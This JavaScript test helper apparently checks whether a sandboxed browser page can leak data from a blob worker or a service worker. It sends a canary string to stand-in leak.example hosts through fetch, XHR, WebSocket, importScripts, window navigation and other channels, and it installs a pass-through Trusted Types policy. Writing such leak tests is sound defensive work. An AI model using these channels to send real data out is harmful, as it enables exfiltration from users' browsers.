// Ways out that Prove it does not try: from a worker that was started from a blob, and from the service worker.
//
//   await fromBlobWorker(page)            tries each to a host of its own, and gives the ways that exist there
//   await fromServiceWorker(context)      the same; [] where there is no service worker
//
// The host of a way is `<way>-<where>.leak.example`. Whether anything came out is the listener's to say.

/** Runs in the worker. Its own text, for a worker takes no functions. */
const attempts = String.raw`async (where) => {
  const host = (way, scheme = 'http') => scheme + '://' + way + '-' + where + '.leak.example/canary-5f1d'
  const given = (name, use) => (typeof self[name] === 'undefined' ? undefined : use)
  const ways = {
    fetch: () => fetch(host('fetch'), { method: 'POST', mode: 'no-cors', body: 'canary-5f1d' }),
    xhr: given('XMLHttpRequest', () => {
      const request = new XMLHttpRequest()
      request.open('POST', host('xhr'))
      request.send('canary-5f1d')
    }),
    websocket: given('WebSocket', () => void new WebSocket(host('websocket', 'ws'))),
    eventsource: given('EventSource', () => void new EventSource(host('eventsource'))),
    webtransport: given('WebTransport', () => new WebTransport(host('webtransport', 'https')).ready),
    import: where === 'blob' ? () => import(host('import')) : undefined,
    'import-scripts': given('importScripts', () => importScripts(host('import-scripts'))),
    'nested-worker': given('Worker', () => void new Worker(host('nested-worker'))),
    'cache-add': given('caches', async () => (await caches.open('canary')).add(host('cache-add'))),
    'redirected-page': given('clients', async () => {
      for (const one of await clients.matchAll()) await one.navigate(host('redirected-page'))
    }),
    'open-window': given('clients', () => clients.openWindow(host('open-window'))),
  }
  const there = Object.entries(ways).filter(([, use]) => use !== undefined)
  await Promise.all(
    there.map(([, use]) => Promise.race([
      (async () => use())().catch(() => undefined),
      new Promise((done) => setTimeout(done, 1500)),
    ])),
  )
  if (self.caches) await caches.delete('canary').catch(() => undefined)
  return there.map(([way]) => way)
}`

/** @param {import('playwright-core').Page} page */
export const fromBlobWorker = (page) =>
  page.evaluate(async (source) => {
    const blob = new Blob([`(${source})('blob').then((ways) => postMessage(ways))`], { type: 'text/javascript' })
    const address = URL.createObjectURL(blob)
    // The page's own name for scripts that it made itself; a plain address is refused by Trusted Types already.
    const named = globalThis.trustedTypes?.createPolicy('default', { createScriptURL: (url) => url })
    const worker = new Worker(named ? named.createScriptURL(address) : address)
    return new Promise((resolve, reject) => {
      worker.onmessage = ({ data }) => resolve(data)
      worker.onerror = ({ message }) => reject(new Error(message))
    })
  }, attempts)

/** @param {import('playwright-core').BrowserContext} context */
export const fromServiceWorker = async (context) => {
  const [worker] = context.serviceWorkers()
  return worker ? worker.evaluate(`(${attempts})('service')`) : []
}
